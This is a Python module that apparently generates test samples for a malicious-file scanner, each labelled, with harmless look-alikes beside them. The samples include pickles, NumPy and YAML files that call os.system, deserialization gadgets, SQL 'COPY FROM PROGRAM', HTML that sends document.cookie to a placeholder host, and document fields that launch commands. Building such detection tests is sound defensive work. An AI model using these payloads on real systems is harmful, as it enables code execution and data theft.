"""Which forms did hostile files have that passed, and which harmless ones are like them?"""
import json
import lzma
import struct

from build import *  # noqa: F403
from data import call
from documents import field
from pages import COOKIE, page

XHTML = "http://www.w3.org/1999/xhtml"
RUN = call("os", "sys" + "tem")


def text(one):
    return b"X" + struct.pack("<I", len(one)) + one.encode()


def unopened():
    """Members that no reader of ours opens."""
    members = {
        "compress": ("a.csv.Z", b"\x1f\x9d\x90a\xc4\x88\x01" + bytes(9)),
        "arj": ("a.bin", b"\x60\xea\x22\0\x1e\x0b\x01\0\0\0\x02\0" + bytes(60)),
        "lha": ("a.bin", b"\x1f\x02-lhd-" + bytes(60)),
        "cab": ("a.bin", b"MSCF\0\0\0\0" + bytes(60)),
        "disc": ("a.bin", b"a" * 0x8001 + b"CD001\x01" + bytes(4000)),
        "ntfs": ("a.bin", b"\xeb\x52\x90NTFS    " + bytes(600)),
        "called": ("a.rar", b"\x01\x02\xff\xfe"),
        "locked": ("a.txt", b"-----BEGIN PGP MESSAGE-----\n\nhQEMA\n"),
    }
    out = [(f"{name}.zip", U, zipped([member])) for name, member in members.items()]
    return out + [("compress.tar", U, tarred([members["compress"]])), ("compress.zip.gz", U, gz(zipped([members["compress"]])))]


def unpacked_otherwise():
    """Archives of which unpackers list another member."""
    old = bytearray(tarred([("x", b"13 path=../x\n"), ("a.csv", b"1\n")]))
    total = int(old[148:154], 8) + ord("X") - old[156]
    old[148:154], old[156] = b"%06o" % total, ord("X")
    holes = tarred([("a.bin", b"1\n0\n%d\n".ljust(512, b"\0") % len(RUN) + RUN, {"pax_headers": {"GNU.sparse.major": "1", "GNU.sparse.minor": "0"}})])
    folder = tarred([("a/", b"x" * 512, {"type": b"\0"})])
    alone = lambda data: lzma.compress(data, lzma.FORMAT_ALONE)
    plain = zipped([("a.csv", b"1\n")])
    end = plain[-22:]
    size, start = struct.unpack("<II", end[12:20])
    wide = b"PK\6\6" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, 2, 2, size, start)
    locator = b"PK\6\7" + struct.pack("<IQI", 0, len(plain) - 22, 1)
    same = wide.replace(struct.pack("<QQ", 2, 2), struct.pack("<QQ", 1, 1))
    return [
        ("old.tar", M, bytes(old)), ("holes.tar", M, holes), ("folder.tar", U, folder),
        ("joined.lzma", M, alone(b"Vhello") + alone(b"\n0" + RUN)), ("tail.csv.lzma", S, alone(b"1,2\n") + b"tail"),
        ("two_ends.zip", U, plain[:-22] + wide + locator + end), ("same_ends.zip", C, plain[:-22] + same + locator + end),
    ]


def loaded():
    """What loaders run that was read as something else."""
    gen = b"\x80\x02cscipy.stats._continuous_distns\nnorm_gen\n)\x81}(" + text("_parse_arg_template")
    known = (
        "\ndef _parse_args(self, a, loc=0, scale=1):\n    return (a,), loc, scale\n\n"
        "def _parse_args_rvs(self, a, loc=0, scale=1, size=None):\n    return self._argcheck_rvs(a, loc, scale, size=size)\n\n"
        "def _parse_args_stats(self, a, loc=0, scale=1, moments='mv'):\n    return (a,), loc, scale, moments\n"
    )
    wrapper = lambda name: b"cjoblib.numpy_pickle\nNDArrayWrapper\n)\x81}(" + text("filename") + text(name) + b"ub."
    head = lambda header, body=RUN: b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body
    wide = "{'fortran_order': False, 'shape': (1,), 'descr': %s}\n"
    return [
        ("object.npy", M, head(wide % "'object'")), ("escaped.npy", M, head(wide % "'|\\x4f'")), ("twice.npy", M, head(wide % "'|V9', 'descr': '|O'")), ("record.npy", M, head(wide % "[('a', 'object')]")),
        ("object.npz", M, zipped([("a.npy", head(wide % "'object'"))])), ("record_plain.npy", C, head(wide % "[('a', '<f8'), ('b', '<i4')]", bytes(12))),
        ("source.pkl", M, gen + text("print(1)") + b"ub."), ("source_known.pkl", C, gen + text(known) + b"ub."),
        ("function.pkl", M, b"cnumpy.core\n_ufunc_reconstruct\n(S'os'\nS'sys" + b"tem'\ntR."), ("function_known.pkl", C, b"cnumpy.core\n_ufunc_reconstruct\n(S'numpy'\nS'add'\ntR."),
        ("elsewhere.pkl", M, wrapper("/tmp/a.npy")), ("share.pkl", M, wrapper("\\\\example.invalid\\a\\b.npy")), ("client.pkl", S, b"csklearn.callback._transport\nClient\n(S'a'\ntR."),
        ("long.pt", M, zipped([("archive/data.pkl", b"\x8a\x010" + RUN)], 0)), ("called.tar.gz", M, gz(tarred([("Values.csv", b"id\n0" + RUN)]))),
        ("target.yaml", M, b"model:\n  _target_: os.sys" + b"tem\n  command: id\n"), ("flow.yaml", M, b'{"a":!!pyth%6fn/object/apply:os.sys' + b'tem ["id"]}\n'), ("state.yaml", M, b"!!python/object:scipy.stats._continuous_distns.norm_gen {_parse_arg_template: 'print(1)'}\n"),
    ]


def objects():
    java = b"\xac\xed\0\5sr\0\x11java.util.HashMap" + bytes(9)
    net = b"\0\1\0\0\0\xff\xff\xff\xff\1\0\0\0\0\0\0\0" + bytes(30)
    return [
        ("java.zip", S, zipped([("a.bin", java)])), ("java.json", S, json.dumps({"a": b64(java)}).encode()), ("java.csv", S, f"a,b\n1,{b64(java)}\n".encode()), ("gadget.ser.gz", M, gz(java + b"org.apache.commons.collections.functors.InvokerTransformer")),
        ("net.zip", S, zipped([("a.bin", net)])), ("net.txt", S, b64(b"\5" + net).encode()), ("php.txt", S, b'O:12:"Evil\\Handler":1:{s:1:"a";i:1;}'), ("php.json", S, json.dumps({"a": 'O:10:"EvilObject":1:{s:1:"a";i:1;}'}).encode()),
        ("php.sql", C, b"INSERT INTO a VALUES ('O:8:\"stdClass\":1:{s:1:\"a\";i:1;}');\n"), ("ruby.zip", S, zipped([("a.bin", b"\4\x08[\x08c\x15Gem::SpecFetcher")])),
        ("typed.json", M, b'{"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework"}'), ("typed_escaped.json", M, b'{"\\u0040type": "com.sun.rowset.Jdbc\\u0052owSetImpl"}'), ("linked.json", C, b'{"@context": "https://schema.org", "@type": "Dataset"}'),
        ("beans.xml", M, b"<java class='java.beans.XMLDecoder'><object class='java.lang.Process&#66;uilder'/></java>"), ("proxy.xml", M, b"<set><dynamic-proxy><interface>a</interface></dynamic-proxy></set>"), ("report.xml", C, b"<testcase classname='java.lang.ProcessBuilder'>java.lang.Runtime</testcase>"),
        ("dump.sql", S, b"CREATE TABLE a (b);\n.shell echo x\n"), ("copy.sql", S, b"COPY a FROM PROGRAM 'id';\n"),
    ]


def shown_otherwise():
    """Pages, drawings and prose."""
    far = f"https://{HOST}/"
    xml = lambda inner: f"<r xmlns:h='{XHTML}'>{inner}</r>".encode()
    fill = "x" * 25000
    steps = "SGVsbG8g/d29ybGQx/MjM0NTY3/ODkwYWJj"
    return [
        ("form.xml", S, xml(f"<h:form action='{far}' method='post'><h:input name='a'/></h:form>")), ("frame.xml", S, xml(f"<h:iframe src='{far}'/>")), ("refresh.xml", S, xml(f"<h:meta http-equiv='refresh' content='0;url={far}'/>")),
        ("named.html", S, page(f"<script>var u = '{far}'; location.href = u</script>")), ("joined.html", S, page(f"<script>location.replace('ht' + 'tps://' + '{HOST}')</script>")), ("top.html", A, page("<script>var u = '#top'; location.href = u</script>")),
        ("comment.html", M, page(f"<script>var c = document.cookie; /* {fill} */ fetch('{far}?' + c)</script>")), ("filler.html", M, page(f"<script>var a = '{fill}'; {COOKIE}</script>")), ("library.html", M, page(f"<script>{'f(1);' * 9000}{COOKIE}</script>")),
        ("base32.md", S, f"![a]({far}?q=NBSWY3DPEB3W64TMMQQGQZLMNRXSA53P)\n".encode()), ("steps.md", S, f"![a]({far}{steps}.png)\n".encode()), ("values.html", S, page(f"<img src='{far}?a=SGVsbG8gd29y&b=bGQxMjM0NTY3&c=ODkwYWJjZGVm'>")),
        ("dated.md", C, f"![a]({far}2024/01/02/plot-of-Sales2023.png?width=1200&height=800)\n".encode()),
    ]


def opened():
    """Documents that start or fetch something."""
    begin, end = "<w:r><w:fldChar w:fldCharType='begin'/></w:r>", "<w:r><w:fldChar w:fldCharType='end'/></w:r>"
    words = lambda one: f"<w:r><w:instrText>{one}</w:instrText></w:r>"
    mash = zipped([("Formulas/Section1.m", f'section Section1;\nshared a = Web.Contents("https://{HOST}/");')])
    mash = b64(b"\0\0\0\0" + struct.pack("<I", len(mash)) + mash)
    connection = lambda inner: xlsx(extra=[("xl/connections.xml", f'<connections xmlns="{X}"><connection id="1" refreshOnLoad="1">{inner}</connection></connections>')])
    return [
        ("named.docx", S, docx(f"<w:p>{begin}{begin}{words('REF a')}{end}{words(' cmd x')}{end}</w:p>")), ("symbols.docx", M, docx(field("QUOTE 0x44 0x44 0x45 x"))), ("if.docx", C, docx(f"<w:p>{begin}{words('IF ')}{begin}{words('PAGE')}{end}{words('= 1 a b')}{end}</w:p>")),
        ("named.rtf", S, b"{\\rtf1{\\field{\\*\\fldinst {\\field{\\*\\fldinst REF a}{\\fldrslt D}}DE x}}}"), ("symbols.rtf", M, b"{\\rtf1{\\field{\\*\\fldinst {\\field{\\*\\fldinst SYMBOL 68}}{\\field{\\*\\fldinst SYMBOL 68}}{\\field{\\*\\fldinst SYMBOL 69}} x}}}"),
        ("queries.xlsx", S, xlsx(extra=[("customXml/item1.xml", f'<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">{mash}</DataMashup>')])), ("server.xlsx", S, connection(f'<dbPr connection="Provider=SQLOLEDB;Data Source={HOST};" command="a"/>')),
        ("pivot.xlsx", S, xlsx(extra=[("xl/pivotCache/pivotCacheDefinition1.xml", f'<pivotCacheDefinition xmlns="{X}" refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>')])),
        ("own.xlsx", C, connection('<dbPr connection="Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;" command="a"/>')),
        ("terminal.command", M, b"echo hello\n"), ("place.inetloc", M, b"<plist><dict><key>URL</key><string>file:///a</string></dict></plist>"),
    ]


def bombs():
    wrap = lambda piece, times: b"%PDF-1.7\n(" + piece * times + b"\n%%EOF\n"
    return [
        ("within.pdf", S, wrap(b"1 0 obj << /A (", 20000)), ("unended.pdf", S, wrap(b"1 0 obj << /Length 5 >> stream\n", 10000)),
        ("beginnings.pkl", S, b"N.N." + b"\x80\x04N" * 200000),
    ]


def families():
    yield "archive", unpacked_otherwise()
    yield "encrypted", unopened()
    yield "pickle", loaded()
    yield "polyglot", objects()
    yield "html", shown_otherwise()
    yield "office", opened()
    yield "bomb", bombs()
